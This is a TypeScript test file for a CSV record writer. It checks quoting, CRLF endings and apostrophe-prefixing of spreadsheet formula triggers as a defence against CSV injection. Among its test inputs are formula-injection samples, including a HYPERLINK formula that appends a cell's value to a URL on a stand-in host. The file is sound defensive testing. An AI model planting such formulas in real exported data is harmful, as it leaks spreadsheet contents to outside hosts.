import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvRecord } from './csv.server.ts'

/** One cell as a record writes it, without the record's CRLF. */
const cell = (value: string | number | null | undefined) => csvRecord([value]).slice(0, -2)

/** OWASP's rule, as the exports promise it: text starting =, +, -, @ (or their full-width forms), tab or CR gets an apostrophe. */
const spreadsheetSafe = (text: string) => (/^[=+\-@\t\r＝＋－＠]/.test(text) ? `'${text}` : text)

describe('csvRecord', () => {
  it('leaves plain text and numbers as they are', () => {
    expect(cell('Austin')).toBe('Austin')
    expect(cell(42)).toBe('42')
    expect(cell(-3)).toBe('-3')
    expect(cell(null)).toBe('')
    expect(cell(undefined)).toBe('')
  })

  it('quotes commas, quotes and line breaks, doubling inner quotes', () => {
    expect(cell('a,b')).toBe('"a,b"')
    expect(cell('say "hi"')).toBe('"say ""hi"""')
    expect(cell('one\ntwo')).toBe('"one\ntwo"')
    expect(cell('one\r\ntwo')).toBe('"one\r\ntwo"')
  })

  it('prefixes text starting with a formula trigger with an apostrophe', () => {
    expect(cell('=SUM(A1:A9)')).toBe("'=SUM(A1:A9)")
    expect(cell('+15125550142')).toBe("'+15125550142")
    expect(cell('-2+3')).toBe("'-2+3")
    expect(cell('@cmd')).toBe("'@cmd")
    expect(cell('\tx')).toBe("'\tx")
    expect(cell('\rx')).toBe('"\'\rx"')
    expect(cell('=HYPERLINK("http://x?"&A1,"y")')).toBe('"\'=HYPERLINK(""http://x?""&A1,""y"")"')
    expect(cell('a=b')).toBe('a=b')
    expect(cell('＝1+1')).toBe("'＝1+1")
  })

  it('ends records with CRLF', () => {
    expect(csvRecord(['a', 1, null, 'b c'])).toBe('a,1,,b c\r\n')
  })

  it('round-trips any text, unicode included (formula triggers come back with their apostrophe)', () => {
    const text = fc.string({ unit: 'binary', maxLength: 20 })
    const rows = fc.array(fc.array(text, { minLength: 1, maxLength: 6 }), { maxLength: 8 })
    fc.assert(
      fc.property(rows, (records) => {
        const csv = records.map((r) => csvRecord(r)).join('')
        expect(parse(csv, { relax_column_count: true })).toEqual(records.map((r) => r.map(spreadsheetSafe)))
      }),
      { numRuns: 500 },
    )
  })
})
